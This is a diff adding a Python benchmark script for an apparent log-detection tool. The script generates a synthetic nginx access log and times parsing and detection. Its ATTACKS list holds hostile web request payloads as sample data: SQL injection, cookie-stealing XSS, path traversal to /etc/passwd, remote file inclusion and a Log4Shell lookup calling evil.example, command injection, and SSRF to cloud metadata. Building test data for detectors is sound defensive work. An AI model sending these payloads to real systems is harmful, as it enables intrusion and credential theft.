@@ -1,0 +1,141 @@
+"""End-to-end replay throughput: parse + every bundled detector pack.
+
+Generates (once, cached in ``--log``) a 1,000,000-line nginx combined log
+with 1 % attack lines and 100,000 distinct clients, then reads it through the
+real ``combined`` parser and the detection engine with all packs, and prints
+lines/s and peak RSS.
+
+Targets: >= 150,000 lines/s, peak RSS <= 300 MB.
+
+Run: ``.venv/bin/python bench/replay.py [--lines 1000000] [--clients 100000]``
+"""
+
+from __future__ import annotations
+
+import argparse
+import random
+import resource
+import sys
+import time
+from datetime import UTC, datetime
+from pathlib import Path
+
+from sentinel.detection import DetectionEngine, load_packs
+from sentinel.parsers import build_parser
+from sentinel.records import LineRef, RawLine
+
+START = datetime(2026, 11, 20, tzinfo=UTC).timestamp()
+AGENTS = [
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    f"Chrome/{v}.0.0.0 Safari/537.36"
+    for v in range(110, 125)
+] + [
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 "
+    "(KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+]
+PAGES = ["/", "/products", "/cart", "/checkout", "/account", "/blog", "/help", "/search"]
+ATTACKS = [
+    ("/products/view?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--", 200),
+    ("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200),
+    ("/download?file=..%252f..%252f..%252fetc%252fpasswd", 404),
+    ("/.env", 404),
+    ("/.git/config", 404),
+    ("/index.php?page=http://evil.example/shell.txt?", 404),
+    ("/ping?host=127.0.0.1%3Bcat%20/etc/passwd", 500),
+    ("/?x=${jndi:ldap://evil.example/a}", 400),
+    ("/api/v1/preview?url=http://169.254.169.254/latest/meta-data/", 400),
+    ("/wp-config.php.bak", 404),
+    ("/admin/phpmyadmin/index.php", 404),
+]
+
+
+def client_ip(i: int) -> str:
+    return f"{11 + i // 65536 % 200}.{i // 256 % 256}.{i % 256}.{(i * 7) % 250 + 1}"
+
+
+def benign_target(rng: random.Random) -> str:
+    roll = rng.random()
+    if roll < 0.35:
+        return f"/static/{rng.choice(('app', 'vendor', 'style'))}.{rng.choice(('js', 'css'))}?v=3"
+    if roll < 0.65:
+        return f"/products/{rng.randint(1, 5000)}"
+    if roll < 0.8:
+        return f"/search?q={rng.choice(('boots', 'winter+jacket', 'desk', 'gift'))}&page={rng.randint(1, 5)}"
+    return rng.choice(PAGES)
+
+
+def generate(path: Path, lines: int, clients: int, seed: int = 1) -> None:
+    """Write the synthetic log: benign sessions plus 1 % attack lines."""
+    rng = random.Random(seed)  # noqa: S311 - reproducible benchmark data
+    step = 86400.0 / lines
+    with path.open("w") as fh:
+        for n in range(lines):
+            ts = START + n * step
+            stamp = datetime.fromtimestamp(ts, tz=UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
+            # First pass over every client so all of them appear, then random.
+            ip = client_ip(n if n < clients else rng.randrange(clients))
+            if rng.random() < 0.01:
+                target, status = rng.choice(ATTACKS)
+                ip = client_ip(clients + rng.randrange(500))
+                size, agent = 150, rng.choice(("curl/8.4.0", AGENTS[0], "sqlmap/1.7.2"))
+            else:
+                target, status = benign_target(rng), rng.choice((200,) * 18 + (304, 404))
+                size, agent = rng.randint(500, 60000), rng.choice(AGENTS)
+            fh.write(
+                f'{ip} - - [{stamp}] "GET {target} HTTP/1.1" {status} {size} '
+                f'"https://shop.example.com/" "{agent}"\n'
+            )
+
+
+def replay(path: Path, *, detect: bool = True) -> tuple[int, float, float]:
+    """Parse (and detect) every line; returns (lines, wall seconds, CPU seconds).
+
+    CPU time is reported too because a shared machine's wall time includes
+    waiting for other processes.
+    """
+    parser = build_parser("combined", source="bench")
+    engine = DetectionEngine(load_packs(check_examples=False) if detect else [])
+    observe, parse = engine.observe, parser.parse
+    name = str(path)
+    count = 0
+    begin, cpu = time.perf_counter(), time.process_time()
+    with path.open("rb") as fh:
+        offset = 0
+        for count, data in enumerate(fh, start=1):
+            event = parse(RawLine(LineRef("bench", name, offset, count), data.rstrip(b"\n")))
+            offset += len(data)
+            if event is not None:
+                observe(event)
+    engine.flush(float("inf"))
+    return count, time.perf_counter() - begin, time.process_time() - cpu
+
+
+def main(argv: list[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--lines", type=int, default=1_000_000)
+    parser.add_argument("--clients", type=int, default=100_000)
+    parser.add_argument("--log", type=Path, default=Path("/tmp/sentinel-bench-replay.log"))
+    parser.add_argument("--parse-only-too", action="store_true", help="also time parsing alone")
+    args = parser.parse_args(argv)
+    if not args.log.exists():
+        generate(args.log, args.lines, args.clients)
+    lines, seconds, cpu = replay(args.log)
+    peak_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
+    print(
+        f"lines: {lines:,}  wall: {seconds:.2f} s ({lines / seconds:,.0f} lines/s)  "
+        f"cpu: {cpu:.2f} s ({lines / cpu:,.0f} lines/s)"
+    )
+    if args.parse_only_too:
+        _, _, parse_cpu = replay(args.log, detect=False)
+        print(
+            f"parse only: cpu {lines / parse_cpu:,.0f} lines/s; "
+            f"detection share of cpu {1 - parse_cpu / cpu:.0%}"
+        )
+    print(f"peak RSS: {peak_mb:.0f} MB (targets: >= 150,000 lines/s, <= 300 MB)")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
